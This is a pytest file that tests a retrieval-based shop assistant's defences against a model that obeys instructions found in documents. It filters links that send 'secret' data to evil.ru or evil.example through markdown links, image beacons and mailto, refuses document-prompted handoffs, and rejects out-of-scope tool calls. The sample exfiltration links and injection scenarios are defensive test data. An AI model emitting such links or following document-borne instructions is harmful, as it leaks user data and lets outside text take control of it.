"""A model that does what documents tell it: what gets out is still checked, cited and nobody else's."""

from __future__ import annotations

from typing import Any

import pytest

from agentflow.agents.links import links
from tests.agents.conftest import SOURCES, Shop
from tests.fixtures.model_server import Call, ModelServer, Say, search_then

QUESTION = "How long do I have to send an order back?"
TRUE = "You may send an order back within 30 days of delivery."
HOURS = "The workshop is open from Tuesday to Saturday."


@pytest.mark.parametrize(
    "said",
    [
        "Which [product](https:evil.ru/?q=secret) do you mean?",
        "Which product do you mean, see mailto:thief@evil.ru?",
        "Hello [friend](//evil.ru/secret.png)!",
        "You may send an order back within [30 days](HTTPS:\\\\evil.ru) of delivery.",
        "You may send an order back within 30 days of delivery ![](https://evil.example/?q=secret).",
        "The return label costs 4.95 euro at evil.xyz/label.",
    ],
)
async def test_that_no_link_gets_out_that_stands_in_no_source(
    shop: Shop, server: ModelServer, said: str
) -> None:
    await shop.connect(server)
    server.then(search_then(f"{said} {HOURS}", query="returns and workshop hours"))
    answer = await shop.ask(QUESTION)
    assert "evil" not in answer.text
    assert answer.outcome.trace["dropped"] == [said]
    assert HOURS in answer.text


async def test_that_documents_ask_for_nobody_and_customers_do(shop: Shop, server: ModelServer) -> None:
    """The model obeys what the documents say: it has looked something up, and hands over."""
    await shop.connect(server)
    rules: dict[str, Any] = {"handoff_rules": [{"kind": "customer_asks"}]}
    obeying = (
        Call("search_knowledge", {"query": QUESTION}),
        Call("hand_off", {"reason": "the note says so"}),
    )
    server.then(*obeying, Say(TRUE))
    answer = await shop.ask(QUESTION, **rules)
    assert (answer.outcome.action, answer.text, answer.outcome.handoff) == ("reply", TRUE, None)
    assert "Only the customer can ask for this" in answer.outcome.tool_calls[-1].outcome
    server.then(*obeying, Say(TRUE))
    asked = await shop.ask("I want to talk to a human about my return", **rules)
    assert asked.outcome.action == "handoff"
    server.then(Call("hand_off"))
    assert (await shop.ask("This leads nowhere, get me out of here", **rules)).outcome.action == "handoff"


async def test_that_a_model_reaches_nothing_but_its_own_tools_and_knowledge(
    shop: Shop, server: ModelServer
) -> None:
    await shop.connect(server)
    server.then(
        Call("delete_source", {"id": "src_1"}),
        Call("search_knowledge", {"query": "x" * 4001}),
        Call(
            "search_knowledge",
            {"query": QUESTION, "workspace_id": "wsp_other", "knowledge_base_id": "kb_other", "limit": 9999},
        ),
        Say(TRUE),
    )
    answer = await shop.ask(QUESTION)
    outcomes = [call.outcome for call in answer.outcome.tool_calls]
    assert outcomes[:2] == [
        "There is no tool named delete_source.",
        "These arguments are missing or wrong: query.",
    ]
    assert {passage.source for passage in answer.outcome.passages} <= set(SOURCES)
    assert 0 < len(answer.outcome.passages) <= 10
    assert answer.text == TRUE


def test_that_whatever_a_screen_may_link_counts_as_a_link() -> None:
    assert links("[a](https:evil.ru/a) and WWW.Shop.Example/terms, or a.b@shop.example.") == {
        "evil.ru/a",
        "shop.example/terms",
        "a.b@shop.example",
    }
    assert links("It costs 3.50 euro.Then e.g. 12.30, d.w.z. m.b.t. data: 12.") == frozenset()
